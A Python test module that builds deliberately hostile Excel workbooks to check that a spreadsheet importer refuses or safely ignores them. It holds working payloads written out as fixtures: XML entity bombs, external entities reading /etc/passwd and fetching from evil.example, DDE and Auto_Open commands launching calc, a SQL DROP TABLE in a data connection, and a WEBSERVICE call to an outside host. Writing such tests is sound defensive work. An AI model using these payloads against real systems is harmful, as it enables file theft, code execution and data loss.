"""Tricks of the XML inside a workbook."""

# ruff: noqa: E501 - tables of examples are read line by line

from __future__ import annotations

import codecs
from collections.abc import Callable, Iterator

from tests.hostile.files import Hostile, Refused, Taken
from tests.hostile.package import (
    BOOK,
    MAIN,
    OFFICE,
    PACKAGE,
    RELS,
    SHEET,
    STORY,
    STRINGS,
    STYLES,
    TYPES,
    XML,
    Raw,
    book,
    honest,
    parts,
)

FINE = Taken(({"summary": STORY},))
DOCTYPE, DAMAGED, ODD = Refused("DOCTYPE"), Refused("不完整或已损坏"), Refused("内部结构")
AWAY = ' TargetMode="External"'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {b} "{10 * ("&" + a + ";")}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
).encode()
OUTSIDE = (
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"> %b; <!ENTITY % b SYSTEM "http://evil.example/b">]>'
)
CORE, APP, THEME, NOTES = "docProps/core.xml", "docProps/app.xml", "xl/theme/theme1.xml", "xl/comments1.xml"

Make = Callable[[str], bytes]


def spoilt(part: str, change: Callable[[bytes], bytes], **cells: Raw | str) -> Make:
    """An honest workbook with one part changed (or added: what was not there is an empty root)."""

    def make(no: str) -> bytes:
        made = parts([honest(no, **cells)])
        return book([honest(no, **cells)], {part: change(made.get(part, f"{XML}<x/>".encode()))})

    return make


def declared(part: str, intro: bytes) -> Make:
    """Something between the XML declaration and the root."""
    return spoilt(part, lambda old: old.replace(XML.encode(), XML.encode() + intro))


def encoded(part: str, encoding: str, mark: bytes = b"") -> Make:
    """A part in another encoding, as it says of itself."""

    def change(old: bytes) -> bytes:
        text = old.decode().replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
        return mark + text.encode(encoding, "xmlcharrefreplace")

    return spoilt(part, change)


def hidden_doctype(part: str) -> Make:
    """A document type that only who believes in UTF-7 sees."""
    intro = (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x +AFsAPAAh-ENTITY a +ACI-aaa+ACIAPgBdAD4-'
    )
    return spoilt(part, lambda old: intro + old.replace(XML.encode(), b""))


def cell(inner: str, kind: str = "inlineStr") -> Raw:
    """A story cell with this inside."""
    return Raw(f'<c r="{{r}}" t="{kind}">{inner}</c>')


def taken(summary: str | None) -> Taken:
    """One row with this story."""
    return Taken(({"summary": summary},))


def related(*relations: str) -> Callable[[bytes], bytes]:
    """Further relationships of the workbook."""
    return lambda old: old.replace(b"</Relationships>", "".join(relations).encode() + b"</Relationships>")


def relation(kind: str, target: str, mode: str = "") -> str:
    """One relationship."""
    return f'<Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def relations(*relations: str) -> bytes:
    """A part with nothing but relationships."""
    return (
        f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{"".join(relations)}</Relationships>'.encode()
    )


def prefixed(prefix: str) -> Make:
    """Every name of the sheet with a prefix."""

    def change(old: bytes) -> bytes:
        text = old.decode().replace(XML, "").replace("</", "\x01").replace("<", f"<{prefix}:")
        return (XML + text.replace("\x01", f"</{prefix}:").replace("xmlns=", f"xmlns:{prefix}=")).encode()

    return spoilt(SHEET, change)


def external(no: str) -> bytes:
    """Links to another workbook, data connections, a DDE link, a query table, a macro sheet's name."""
    link = f'{XML}<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>'
    connections = (
        f'{XML}<connections xmlns="{MAIN}"><connection id="1" name="x" type="1" refreshOnLoad="1">'
        '<dbPr connection="DSN=evil" command="DROP TABLE case_main"/></connection></connections>'
    )
    away = relations(relation("externalLinkPath", "file://evil/a.xlsx", AWAY))
    return book(
        [honest(no)],
        {
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": away,
            "xl/connections.xml": connections.encode(),
            RELS: related(
                relation("externalLink", "externalLinks/externalLink1.xml"),
                relation("connections", "connections.xml").replace('"x"', '"y"'),
            )(parts([])[RELS]),
            BOOK: parts([])[BOOK].replace(
                b"</sheets>",
                b'</sheets><externalReferences><externalReference r:id="x"/></externalReferences><definedNames>'
                b'<definedName name="_xlnm.Auto_Open" hidden="1">SHELL("calc")</definedName></definedNames>',
            ),
        },
    )  # fmt: skip


def circular(no: str) -> bytes:
    """Parts that point to each other and to themselves."""
    loop = relations(relation("worksheet", "../workbook.xml"), relation("drawing", "sheet1.xml"))
    return book(
        [honest(no)],
        {
            "xl/worksheets/_rels/sheet1.xml.rels": loop,
            RELS: related(relation("worksheet", "workbook.xml"), relation("officeDocument", "_rels/workbook.xml.rels"))(
                parts([])[RELS]
            ),
        },
    )  # fmt: skip


def tables() -> Iterator[tuple[str, Make, Refused | Taken]]:
    """Name, maker, outcome."""
    every = (
        SHEET,
        BOOK,
        RELS,
        STRINGS,
        STYLES,
        TYPES,
        "_rels/.rels",
        CORE,
        APP,
        THEME,
        NOTES,
        "customXml/item1.xml",
    )
    for part in (*every, "xl/drawings/vmlDrawing1.vml"):
        yield f"a document type in {part}", declared(part, b"<!DOCTYPE x>"), DOCTYPE
    for part in (SHEET, STRINGS, BOOK, STYLES):
        yield f"an entity bomb in {part}", declared(part, LAUGHS), DOCTYPE
        yield f"outside entities in {part}", declared(part, OUTSIDE), DOCTYPE
    yield "a document type in small letters", declared(SHEET, b"<!doctype x>"), DOCTYPE
    yield "a document type behind a comment", declared(SHEET, b"<!-- x --><!DOCTYPE x>"), DOCTYPE
    yield (
        "a document type behind a megabyte",
        declared(SHEET, b"<!--" + b"x" * ((1 << 20) - 70) + b"--><!DOCTYPE x>"),
        DOCTYPE,
    )
    yield (
        "an entity that nobody declared",
        spoilt(SHEET, bytes, 简要情况=cell("<is><t>a&evil;b</t></is>")),
        DAMAGED,
    )
    for part in (SHEET, BOOK, STRINGS):
        for encoding, mark in (
            ("utf-16-le", codecs.BOM_UTF16_LE), ("utf-16-be", codecs.BOM_UTF16_BE), ("utf-16-le", b""), ("utf-16-be", b""),
            ("utf-32-le", codecs.BOM_UTF32_LE), ("utf-32-be", codecs.BOM_UTF32_BE), ("utf-7", b""), ("gb18030", b""), ("cp037", b""),
        ):  # fmt: skip
            name = f"{part} in {encoding}{' with a mark' if mark else ''}"
            yield name, encoded(part, encoding, mark), DAMAGED
    for part in (SHEET, BOOK, STYLES):
        yield f"a document type in UTF-7 in {part}", hidden_doctype(part), DAMAGED
    yield "a mark before UTF-8", spoilt(SHEET, lambda old: codecs.BOM_UTF8 + old), FINE
    yield "a mark before a workbook in UTF-8", spoilt(BOOK, lambda old: codecs.BOM_UTF8 + old), FINE
    yield (
        "bytes that are no UTF-8",
        spoilt(SHEET, lambda old: old.replace("院墙".encode(), b"\xff\xfe\xc0\xaf")),
        DAMAGED,
    )
    yield "a zero byte in a text", spoilt(SHEET, lambda old: old.replace("院墙".encode(), b"\0")), DAMAGED
    yield (
        "halves of characters in a text",
        spoilt(SHEET, lambda old: old.replace("院墙".encode(), b"\xed\xa0\x80\xed\xb0\x80")),
        DAMAGED,
    )
    yield (
        "a CDATA section",
        spoilt(SHEET, bytes, 简要情况=cell("<is><t>前<![CDATA[<b>&amp;中]]>后</t></is>")),
        taken("前<b>&amp;中后"),
    )
    yield (
        "a CDATA section in the shared texts",
        spoilt(
            STRINGS,
            lambda old: old.replace("共用的话".encode(), "<![CDATA[<i>]]>共用".encode()),
            简要情况=cell("<v>0</v>", "s"),
        ),
        taken("<i>共用"),
    )
    yield (
        "a comment inside a text",
        spoilt(SHEET, bytes, 简要情况=cell("<is><t>前<!-- 中 -->后</t></is>")),
        taken("前后"),
    )
    yield (
        "an instruction inside a text",
        spoilt(SHEET, bytes, 简要情况=cell("<is><t>前<?php 中 ?>后</t></is>")),
        taken("前后"),
    )
    yield (
        "cells inside a comment",
        lambda no: book(
            [
                honest(no),
            ],
            more='<!-- <row r="4"><c r="E4"><v>9</v></c></row> -->',
        ),
        FINE,
    )
    yield (
        "far cells inside a comment",
        lambda no: book([honest(no)], more='<!-- <c r="XFD9"><v>9</v></c> -->'),
        Refused("XFD9"),
    )
    yield (
        "instructions",
        declared(SHEET, b'<?xml-stylesheet href="http://evil.example/a.xsl"?><?php system("id"); ?>'),
        FINE,
    )
    for part in (SHEET, BOOK, STYLES):
        deep = b"<a>" * 60_000 + b"</a>" * 60_000
        outcome = DAMAGED if part == BOOK else FINE
        yield (
            f"60,000 levels in {part}",
            spoilt(part, lambda old, deep=deep: old[: old.rindex(b"</")] + deep + old[old.rindex(b"</") :]),
            outcome,
        )
    for part in (SHEET, BOOK):
        huge = b' evil="' + b"x" * 12_000_000 + b'" xmlns:r="'
        yield (
            f"an attribute of 12 MB in {part}",
            spoilt(part, lambda old, huge=huge: old.replace(b' xmlns:r="', huge, 1)),
            DAMAGED,
        )
        many = b"".join(b' a%d="x"' % at for at in range(100_000)) + b' xmlns:r="'
        yield (
            f"100,000 attributes in {part}",
            spoilt(part, lambda old, many=many: old.replace(b' xmlns:r="', many, 1)),
            FINE,
        )
    for prefix in ("x", "r-2.d", "行"):
        yield f"names with the prefix {prefix}", prefixed(prefix), FINE
    yield "a namespace of nobody", spoilt(SHEET, lambda old: old.replace(MAIN.encode(), b"urn:evil")), FINE
    yield (
        "names in capitals",
        spoilt(SHEET, lambda old: old.replace(b"<row", b"<ROW").replace(b"</row", b"</ROW")),
        FINE,
    )
    yield "no end", spoilt(SHEET, lambda old: old[: old.rindex(b"</c>")]), DAMAGED
    yield (
        "tags that cross",
        spoilt(SHEET, lambda old: old.replace(b"</t></is></c>", b"</is></t></c>", 3)),
        Taken(("登记日期不可能",)),
    )
    yield "two roots", spoilt(BOOK, lambda old: old + b"<x/>"), DAMAGED
    yield (
        "a doubled attribute",
        spoilt(BOOK, lambda old: old.replace(b"sheetId=", b'name="x" sheetId=')),
        DAMAGED,
    )
    for part, outcome in {
        SHEET: DAMAGED, BOOK: Refused("压缩包"), RELS: DAMAGED, STRINGS: FINE, STYLES: FINE, TYPES: FINE, "_rels/.rels": DAMAGED,
    }.items():  # fmt: skip
        made = DAMAGED if part == BOOK else outcome
        yield f"without {part}", lambda no, part=part: book([honest(no)], {part: None}), made
        if part != STYLES:
            empty = FINE if part == TYPES else DAMAGED
            yield f"with nothing in {part}", lambda no, part=part: book([honest(no)], {part: b""}), empty
    yield "no sheet at all", spoilt(BOOK, lambda old: old.replace(b"<sheet ", b"<cheat ")), DAMAGED
    yield (
        "a sheet without relationship",
        spoilt(BOOK, lambda old: old.replace(b'r:id="r1"', b'r:id="r99"')),
        DAMAGED,
    )
    yield (
        "two sheets of one part",
        spoilt(
            BOOK,
            lambda old: old.replace(
                b"</sheets>", '<sheet name="又一张" sheetId="2" r:id="r1"/></sheets>'.encode()
            ),
        ),
        ODD,
    )
    yield (
        "two sheets of one name",
        spoilt(
            BOOK,
            lambda old: old.replace(
                b"</sheets>", '<sheet name="台账" sheetId="2" r:id="r1"/></sheets>'.encode()
            ),
        ),
        ODD,
    )
    yield (
        "3,000 sheets of one part",
        spoilt(
            BOOK,
            lambda old: old.replace(
                b"</sheets>",
                b"".join(b'<sheet name="s%d" sheetId="2" r:id="r1"/>' % n for n in range(3_000))
                + b"</sheets>",
            ),
        ),
        ODD,
    )
    yield "links, connections, DDE and Auto_Open", external, FINE
    yield "relationships in circles", circular, FINE
    yield (
        "shared texts from the web",
        spoilt(RELS, lambda old: old.replace(b"sharedStrings.xml", b"http://evil.example/s.xml")),
        FINE,
    )
    yield (
        "a drawing from a share",
        spoilt(
            "xl/worksheets/_rels/sheet1.xml.rels",
            lambda old: relations(relation("image", "file://evil/a.png", AWAY)),
        ),
        FINE,
    )
    yield (
        "a macro that calls itself a picture",
        spoilt("xl/media/vbaProject.bin", lambda old: b"\xd0\xcf\x11\xe0" + b"\0" * 600),
        FINE,
    )
    yield (
        "a hyperlink that runs",
        lambda no: book(
            [honest(no)],
            behind='<hyperlinks><hyperlink ref="E2" location="x" display="javascript:alert(1)"/></hyperlinks>',
        ),
        FINE,
    )
    yield (
        "a validation that asks elsewhere",
        lambda no: book(
            [honest(no)],
            behind='<dataValidations><dataValidation sqref="E1:E9"><formula1>WEBSERVICE("http://evil.example")</formula1></dataValidation></dataValidations>',
        ),
        FINE,
    )
    one = Raw("<c r='XFD1048576' t='n'><v>1</v></c>")
    yield (
        "a far cell in single quotes",
        lambda no: book([honest(no), [None, None, one]]),
        Refused("XFD1048576"),
    )
    yield (
        "a far cell with spaces",
        lambda no: book([honest(no), [None, Raw('<c\tr = "XFD1048576"\n><v>1</v></c>')]]),
        Refused("XFD1048576"),
    )
    yield (
        "an error in single quotes",
        lambda no: book([honest(no, 涉及金额=Raw("<c t='e' r='{r}'><v>#REF!</v></c>"))]),
        Taken(({"summary": STORY, "amount_fen": None},), "公式出错（#REF!）"),
    )


FILES = [Hostile("xml", name, make, outcome) for name, make, outcome in tables()]
